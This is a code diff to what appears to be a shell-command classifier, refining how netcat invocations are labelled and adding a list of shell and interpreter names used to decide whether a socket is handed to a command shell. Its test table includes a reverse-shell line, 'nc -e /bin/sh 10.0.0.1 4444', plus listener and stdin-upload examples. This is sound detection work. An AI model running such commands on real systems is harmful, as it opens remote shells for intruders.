@@ -176,7 +176,7 @@ def _sftps(parsed: Parsed, _context: Context) -> Description:
 def _netcats(parsed: Parsed, _context: Context) -> Description:
     """nc: HOST PORT, or -l to listen; -e and -c hand the socket to a program."""
     shell = parsed.has("exec", "sh-exec", "lua-exec")
-    details = ["shell-child"] if shell else []
+    details = [] if not shell else ["shell-child" if _hands_shell(parsed) else "child-command"]
     sockets = parsed.has("U")
     words = parsed.operands
     if parsed.has("listen"):
@@ -209,6 +209,22 @@ def _netcats(parsed: Parsed, _context: Context) -> Description:
         ),
         details=(*details, *(("stdin-upload",) if _context.piped else ())),
         reads_stdin=True,
+    )
+
+
+_SHELLS: Final = frozenset(
+    "sh bash dash zsh ksh ash fish csh tcsh busybox python python3 perl ruby cmd cmd.exe powershell pwsh".split()
+)
+
+
+def _hands_shell(parsed: Parsed) -> bool:
+    """Whether the program at the socket may be one that takes commands; `echo` and its like are not."""
+    words = [word.value.split() for word in parsed.values("exec", "sh-exec")]
+    if not words or parsed.has("lua-exec"):
+        return True
+    return any(
+        not each or "\0" in each[0] or each[0].rpartition("/")[2].lower() in _SHELLS or "exec" in each
+        for each in words
     )
 
 
@@ -403,6 +419,7 @@ PROGRAMS: Final = (
             "nc example.com 80": "connect connect@example.com:80 <stdin",
             "nc -e /bin/sh 10.0.0.1 4444": "connect execute connect@10.0.0.1:4444 +shell-child <stdin",
             "nc -lvp 4444": "listen +listener <stdin",
+            "nc -l -p 80 -c 'echo hi'": "listen execute +listener +child-command <stdin",
             "| nc example.com 9": "connect upload upload@example.com:9 +stdin-upload <stdin",
             "nc -zv localhost 80": "connect connect@localhost:80 +probe",
             "nc -U /run/x.sock": "connect connect:/run/x.sock <stdin",
